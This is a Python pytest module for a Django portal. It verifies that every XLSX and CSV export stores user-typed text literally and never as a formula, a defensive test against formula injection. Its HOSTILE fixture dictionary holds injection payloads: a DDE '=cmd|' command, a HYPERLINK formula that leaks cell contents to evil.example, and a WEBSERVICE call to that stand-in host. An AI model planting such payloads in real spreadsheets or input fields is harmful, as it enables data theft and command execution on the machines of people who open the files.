"""Every spreadsheet the portal writes keeps people's text as text (issue 14, item 4).

A title like ``=HYPERLINK(…)`` or an organisation imported as ``=cmd|…`` must
come out of every export shown exactly as typed, never as a formula. The
exports are found, not listed: the URL patterns named like an export, at the
addresses of the role × URL matrix and the export links its pages show.
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.urls import Resolver404, resolve
from openpyxl import Workbook, load_workbook

from branches.tests.factories import SnapshotFactory, SocialPageFactory
from bulletins.tests.factories import BulletinFactory
from contentplan.models import Channel
from contentplan.tests.factories import PlanFactory, PostFactory, RubricFactory
from portal.infrastructure.tabular import FORMULA_STARTS, csv_text, safe_cell, xlsx_bytes
from portal.tests.factories import OrganisationFactory

from .test_url_matrix import ALL_CASES, all_patterns

# Text a spreadsheet would run, one per place people type it.
HOSTILE = {
    "organisation": "=cmd|' /C calc'!A0",
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")',
    "brief": "+SUM(1,1)",
    "rubric": "-2+3 Рубрика",
    "channel": "@SUM(1,1)",
    "branch": "\t=1+1 филиал",
    "region": "\r=2+2 область",
    "person": "=1+2",
    "bulletin": '=WEBSERVICE("http://evil.example/")',
}
ROLES = ("press", "central")


def _is_export(name: str, pattern) -> bool:
    route = str(pattern.pattern)
    return name.endswith(("export", "_xlsx", "_csv")) or route.endswith((".xlsx", ".csv"))


def export_names() -> set[str]:
    return {
        name
        for name, pattern in all_patterns().items()
        if not name.startswith("admin:") and _is_export(name, pattern)
    }


class _Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.hrefs: list[str] = []

    def handle_starttag(self, tag, attrs):
        href = dict(attrs).get("href")
        if tag == "a" and href:
            self.hrefs.append(href)


def _export_name(address: str) -> str | None:
    try:
        match = resolve(urlsplit(address).path)
    except Resolver404:
        return None
    return match.view_name if match.view_name in export_names() else None


@pytest.fixture
def hostile_world(world):
    """The world with hostile text in every name, title and brief an export shows."""
    world.region.short_name = HOSTILE["region"]
    world.region.save()
    world.branch.name = HOSTILE["branch"]
    world.branch.save()
    OrganisationFactory(branch=world.branch, name=HOSTILE["organisation"], members=10)
    press = world.users["press"]
    press.first_name, press.last_name = HOSTILE["person"], ""
    press.save()
    channel = Channel.objects.create(code="hostile", name=HOSTILE["channel"])
    rubric = RubricFactory(name=HOSTILE["rubric"])
    plan = PlanFactory(region=world.region)
    PostFactory(
        plan=plan,
        rubric=rubric,
        title=HOSTILE["title"],
        brief=HOSTILE["brief"],
        branch=world.branch,
        responsible=press,
        channels=[channel],
    )
    page = SocialPageFactory(region=world.region, branch=world.branch)
    SnapshotFactory(page=page)
    BulletinFactory(region=world.region, title=HOSTILE["bulletin"])
    _hostile_survey_answer(world)
    return world


def _hostile_survey_answer(world) -> None:
    """A member's free-text answer to the matrix's survey, typed like a formula."""
    from surveys.models import Answer, Question, Response
    from surveys.tests.url_cases import survey

    found = survey(world)
    question = Question.objects.create(
        survey=found, kind=Question.Kind.TEXT, text_ru="Ваше мнение", position=2
    )
    response = Response.objects.create(survey=found, region=world.region, branch=world.branch)
    Answer.objects.create(response=response, question=question, text=HOSTILE["brief"])


def _addresses(world, client_for) -> dict[str, set[tuple[str, str]]]:
    """(role, address) of every export: the matrix's cases, and for an export of
    many tables (a parameter beyond an id), the links the pages of its app show."""
    patterns = all_patterns()
    found: dict[str, set[tuple[str, str]]] = {name: set() for name in export_names()}
    linked = {
        name.split(":")[0]
        for name in found
        if set(patterns[name].pattern.converters) - {"pk", "year", "month"}
    }
    for role in ROLES:
        client = client_for(world.users[role])
        for case in ALL_CASES:
            if case.method != "get" or case.expect[role] != 200:
                continue
            if case.name in found:
                found[case.name].add((role, case.url(world)))
            elif case.name.split(":")[0] in linked:
                page = client.get(case.url(world))
                if "html" not in page.get("Content-Type", ""):
                    continue
                links = _Links()
                links.feed(page.content.decode())
                for href in links.hrefs:
                    name = _export_name(href)
                    if name:
                        found[name].add((role, href))
    return found


def _xlsx_problems(address: str, content: bytes) -> tuple[list[str], bool]:
    """Formulas, or text not as typed, in a workbook as openpyxl reads it; and
    whether it shows some planted text as typed."""
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    wrong = []
    for cell in cells:
        if cell.data_type == "f":
            wrong.append(f"{address}: {cell.coordinate} is a formula: {cell.value!r}")
        elif (
            isinstance(cell.value, str)
            and cell.value.startswith(FORMULA_STARTS)
            and not cell.quotePrefix  # Excel would make it a formula once edited
        ):
            wrong.append(f"{address}: {cell.coordinate} lacks the quote prefix")
    wrong += [f"{address}: {t!r} shown with a quote" for t in HOSTILE.values() if f"'{t}" in texts]
    return wrong, bool(texts & set(HOSTILE.values()))


def _csv_problems(address: str, content: bytes) -> tuple[list[str], bool]:
    """A CSV cell has no type: text starting like a formula must carry the quote."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    values = [value for row in rows for value in row]
    wrong = [f"{address}: {v!r} would run" for v in values if v.startswith(FORMULA_STARTS)]
    return wrong, bool(set(values) & {csv_text(text) for text in HOSTILE.values()})


def test_no_export_holds_a_formula_and_text_is_as_typed(hostile_world, client_for):
    addresses = _addresses(hostile_world, client_for)
    assert export_names() >= {
        "portal:organisation_export",
        "branches:audit_export",
        "contentplan:export_xlsx",
        "dashboards:central_export",
        "dashboards:region_export",
    }
    wrong = []
    for name, visits in sorted(addresses.items()):
        assert visits, f"no address of {name} in the matrix or on its pages"
        shown = False
        for role, address in sorted(visits):
            response = client_for(hostile_world.users[role]).get(address)
            assert response.status_code == 200, f"{role} {address}: {response.status_code}"
            content = b"".join(response) if response.streaming else response.content
            check = _csv_problems if "csv" in response["Content-Type"] else _xlsx_problems
            problems, planted = check(address, content)
            wrong += problems
            shown = shown or planted
        if not shown:
            wrong.append(f"{name}: none of the planted texts is shown as typed")
    assert not wrong, "\n".join(wrong)


def test_safe_cell_keeps_text_numbers_and_dates():
    import datetime

    sheet = Workbook().active
    for column, value in enumerate(["=1+1", "-5", "обычный текст", 5, -5, None], start=1):
        safe_cell(sheet, row=1, column=column, value=value)
    safe_cell(sheet, row=2, column=1, value=datetime.date(2026, 3, 10))
    safe_cell(sheet, row=2, column=2, value="a\x0bb")  # a character XLSX cannot hold
    assert [cell.data_type for cell in sheet[1]] == ["s", "s", "s", "n", "n", "n"]
    assert [cell.quotePrefix for cell in sheet[1]][:3] == [True, True, False]
    assert sheet["A2"].is_date
    assert sheet["B2"].value == "ab"


def test_xlsx_bytes_writes_hostile_header_and_rows_as_text():
    content = xlsx_bytes(title="t", header=["=A1"], rows=[["=1+1", 3]])
    sheet = load_workbook(io.BytesIO(content)).active
    assert [(c.value, c.data_type) for c in sheet["A"]] == [("=A1", "s"), ("=1+1", "s")]
    assert sheet["B2"].value == 3


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_csv_text_prefixes_formula_starts_with_a_quote(value):
    assert csv_text(value) == f"'{value}"


def test_csv_text_leaves_other_values_alone():
    assert [csv_text(v) for v in ("текст", 5, None, "a=b")] == ["текст", "5", "", "a=b"]
